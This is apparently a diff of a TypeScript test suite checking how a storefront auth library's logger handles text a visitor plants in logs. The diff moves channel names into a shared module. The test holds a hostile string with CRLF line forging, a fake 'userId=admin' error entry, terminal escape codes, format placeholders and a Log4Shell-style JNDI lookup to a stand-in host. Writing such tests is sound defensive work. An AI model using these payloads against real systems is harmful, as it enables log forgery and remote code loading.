@@ -1,14 +1,11 @@
 import assert from 'node:assert/strict'
 import { subscribe, unsubscribe } from 'node:diagnostics_channel'
 import type { Logger } from '../../src/index.ts'
+import { channels } from '../support/channels.ts'
 import { storefronts } from '../support/storefront.ts'
 
 /** Lines, colours and placeholders of one logger or another. */
 const planted = 'planted\r\nlevel=error userId=admin \u001b[2K\u2028 %s %o {{x}} $' + '{jndi:ldap://evil.test}'
-const channels = [
-  ...['ticket', 'login', 'refresh', 'account', 'store', 'setup'].map((name) => `kibo-storefront-auth:${name}`),
-  ...['start', 'asyncEnd', 'error'].map((when) => `tracing:kibo-storefront-auth:kibo-call:${when}`),
-]
 
 describe('what a visitor writes to plant lines in a log', () => {
   const open = storefronts()
